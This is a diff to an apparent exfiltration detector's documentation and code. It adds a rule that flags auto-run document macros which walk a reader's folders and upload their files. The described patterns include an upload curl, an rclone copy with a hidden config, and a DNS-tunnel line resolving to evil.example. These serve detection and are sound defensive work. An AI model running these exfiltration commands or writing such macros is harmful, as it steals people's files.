@@ -41,7 +41,11 @@ What it catches
     packed, encrypted and uploaded to a web address that asks no credential (`curl -T - https://
     host/b.bin`, `sealed_drops.py`): a drop that takes anyone's upload; as an agent action,
     a sync tool's copy to a remote configured in a hidden file in a scratch or memory-backed
-    folder (`rclone copy /srv/finance drop:x --config /dev/shm/.rc.conf`). A
+    folder (`rclone copy /srv/finance drop:x --config /dev/shm/.rc.conf`); a document macro
+    run by the document's opening (`Workbook_Open`, `AutoOpen`) that walks its reader's home
+    folders (`Environ("USERPROFILE") & "\\Desktop"`, `.SubFolders`), reads files
+    (`ADODB.Stream.LoadFromFile`) and sends them (`XMLHTTP` `.send`): whoever opens the
+    document hands over their files (`macros.py`, T1005 with T1041). A
     database dump uploaded to a bare public address is ACT-DATABASE-EXFIL's.
 
 Why it is a redline (RL-EXFIL)
@@ -52,7 +56,9 @@ Example
     `    dns.resolver.resolve(f"{chunk}.x.evil.example")`
 
 Allowed instead
-    Syncing one's own documents to one's own bucket, mailing a report or an archive in parts
+    A macro that lists a folder's files into its sheet, uploads a folder's files when its user
+    presses a button, or on opening copies the workbook's own folder to the team's site,
+    syncing one's own documents to one's own bucket, mailing a report or an archive in parts
     that keeps its copies in Sent Items, a DoH resolver client looking up a host
     name (RFC 8484's base64url query message is one lookup, not chunks of data), a Suricata rule
     for DNS tunnelling,
@@ -164,6 +170,9 @@ def _splay_only(found: Capabilities) -> bool:
 @detector("OUT-COVERT-EXFIL", redline="RL-EXFIL")
 def covert_exfil(found: Capabilities) -> Detection | None:
     """DNS + encoding + chunking, or file walk + chunking/encoding + upload."""
+    if Cap.MACRO_COLLECTOR in found:
+        macro = (Cap.MACRO_COLLECTOR,)
+        return supported(found, 0.8, macro, "a document's macro sending its reader's files")
     if _looked_up_after(found, Cap.ENCODE) and _looked_up_after(found, Cap.CHUNKING):
         tunnel = (Cap.DNS_QUERY, Cap.ENCODE, Cap.CHUNKING)
         return supported(
